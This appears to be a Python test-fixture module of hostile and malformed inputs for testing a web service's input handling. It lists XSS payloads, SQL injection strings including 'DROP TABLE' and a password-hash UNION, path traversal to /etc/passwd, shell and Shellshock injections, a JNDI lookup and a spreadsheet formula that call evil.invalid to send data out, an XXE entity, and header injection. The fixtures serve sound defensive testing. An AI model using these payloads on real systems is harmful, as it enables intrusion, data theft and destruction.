"""What people send who mean harm, and what machines send that are broken; by what each way in could mind.

`RUN` is the script that must never run: it leaves a mark in the page, by which a browser test would see it.
"""

from __future__ import annotations

RUN = "(window.ran = window.ran || []).push(1)"

SCRIPTS = {
    "script element": f"<script>{RUN}</script>",
    "end of script": f"</script><script>{RUN}</script>",
    "end of style and title": f"</style></title></textarea><script>{RUN}</script>",
    "image that fails": f'<img src=x onerror="{RUN}">',
    "svg that loads": f"<svg/onload='{RUN}'>",
    "details that toggle": f'<details open ontoggle="{RUN}">',
    "frame": f"<iframe srcdoc=\"<script>parent.ran=[1]</script>\"></iframe><object data='javascript:{RUN}'></object>",
    "attribute in double quotes": f'" autofocus onfocus="{RUN}" x="',
    "attribute in single quotes": f"' autofocus onfocus='{RUN}' x='",
    "string in a script": f"';{RUN};//\";{RUN};//`;{RUN};`${{{RUN}}}\\",
    "line separators": f"\u2028{RUN}\u2029{RUN}",
    "comment": f"<!--<script>{RUN}//-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "address of a script": f"javascript:{RUN}",
    "address of data": f"data:text/html,<script>{RUN}</script>",
    "template": "{{ 7 * 191 }}{% raw %}${7*191}#{7*191}<%= 7*191 %>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.invalid/a.css>",
    "base": "<base href=//evil.invalid/><form action=//evil.invalid><input type=submit>",
}
"""Text that would be script, markup or a template if it were not escaped."""

ODD_CHARACTERS = {
    "bidirectional": "\u202e灯路\u2066 3栋\u2069\u202c\u200f",
    "zero width": "路\u200b灯\u200d不\ufeff亮\u2060",
    "combining": "灯" + "\u0336\u0489" * 200,
    "control": "路灯\x01\x08\x1b[31m\x7f\x9b31m",
    "private and unassigned": "\ue000\ufffe\U0010ffff",
    "wide": "Ａ＜ｓｃｒｉｐｔ＞１＝１",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 20,
    "only space": "\u3000\u00a0\t\u2003",
    "line ends": "a\r\nSet-Cookie: evil=1\r\n\r\n<b>",
}

COMMANDS = {
    "sql quote": "'; DROP TABLE issue; --",
    "sql union": "G1' UNION SELECT username, password_hash FROM account --",
    "sql sleep": "1; SELECT pg_sleep(5)",
    "sql pattern": "%_\\%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%",
    "sql parameter": ":id %(id)s %s $1 ?",
    "sql array": '{"a",NULL}',
    "path": "../../../../etc/passwd",
    "path in escapes": "..%2f..%5c..%252fetc%252fpasswd",
    "path of windows": "..\\..\\windows\\win.ini",
    "shell": "$(id) `id` ; id | id & id",
    "look-up": "${jndi:ldap://evil.invalid/a}",
    "formula": '=HYPERLINK("http://evil.invalid/?"&A1,"x")',
    "format": "{0.__class__.__mro__} %n%n%n",
    "pattern that takes for ever": "a" * 60 + "!",
    "number words": "1e309",
    "digits": "9" * 5000,
    "not a number": "NaN",
    "negative": "-9223372036854775809",
    "json": '{"$ne": null}',
    "xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
}

NO_TEXT = {"nul": "a\x00b", "lone surrogate": "a\ud800b", "surrogates in the wrong order": "\udc00\ud800"}
"""What PostgreSQL or UTF-8 cannot hold: to be refused, not to fail."""

TEXTS = SCRIPTS | ODD_CHARACTERS | COMMANDS
"""Everything that is text, however odd: to be refused with a reason, or to be kept and shown as it is."""

BODIES = {
    "nothing": b"",
    "null": b"null",
    "list": b"[]",
    "text": b'"text"',
    "number": b"1",
    "cut off": b'{"text": "',
    "deep lists": b"[" * 200_000,
    "deep objects": b'{"text":' * 50_000 + b"1" + b"}" * 50_000,
    "deep and closed": b'{"text":' + b"[" * 20_000 + b"]" * 20_000 + b"}",
    "not a number": b'{"text": NaN, "location": {"lon": Infinity, "lat": -Infinity}}',
    "beyond a double": b'{"text": "a", "lon": 1e999, "lat": -1e999, "location": {"lon": 1e999, "lat": 1e999}}',
    "digits": b'{"text": "a", "lon": ' + b"9" * 50_000 + b', "lat": 1}',
    "the same name twice": b'{"text": "a", "text": ["b"], "grid": "a", "grid": 1}',
    "a name that is an attribute": b'{"__proto__": {"a": 1}, "constructor": 1, "__class__": "x"}',
    "lone surrogate": b'{"text": "\\ud800", "address": "\\udfff\\ud800"}',
    "nul": b'{"text": "a\\u0000b"}',
    "broken utf-8": b'{"text": "\xff\xfe\xc0\x80"}',
    "cut utf-8": b'{"text": "\xe8\xb7"}',
    "utf-16": '{"text": "路灯"}'.encode("utf-16"),
    "utf-8 with a mark": b'\xef\xbb\xbf{"text": 1}',
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    "many fields": b"{" + b",".join(b'"f%d": 1' % n for n in range(20_000)) + b"}",
    "wrong types": b'{"text": {"a": []}, "location": "here", "reporter": [1], "category": 7, "lon": {}, "hazard": "x"}',
}
"""Bodies that are not the JSON object that was asked for, or one that nobody means."""

HEADERS = {
    "accept": ["text/html;q=x", "," * 500, "\xff"],
    "accept-encoding": ["gzip;q=0, *;q=-1", "\xff"],
    "authorization": ["Bearer", "Bearer \xff\xfe", "Basic Og==", "Bearer " + "a" * 5000, "\x80"],
    "cookie": ["dualgrid_session=\xff; lang=%00", "lang=../../x; dualgrid_session", "=" * 1000, 'a="\\303"'],
    "content-length": ["-1", "1e3", "9" * 100, "9" * 5000, "\xb2"],
    "content-type": [
        "application/json; charset=utf-7",
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "\xff",
    ],
    "host": ["evil.invalid", "[", "a:b:c", "\xff", ""],
    "if-modified-since": ["yesterday", "\xff"],
    "if-none-match": ["*", '"\xff'],
    "origin": ["null", "http://[", "\xff"],
    "range": ["bytes=0-0,1-1," * 200, "bytes=-9999999999999999999", "\xff"],
    "referer": ["javascript:alert(1)", "\xff"],
    "sec-fetch-site": ["same-origin, none", "\xff"],
    "user-agent": ["<script>alert(1)</script>", "() { :; }; id", "\xff"],
    "x-forwarded-for": ["127.0.0.1, ::1", "\xff"],
    "x-http-method-override": ["DELETE"],
}
"""Headers that lie, or are no such header. As latin-1, which is what goes over the wire."""
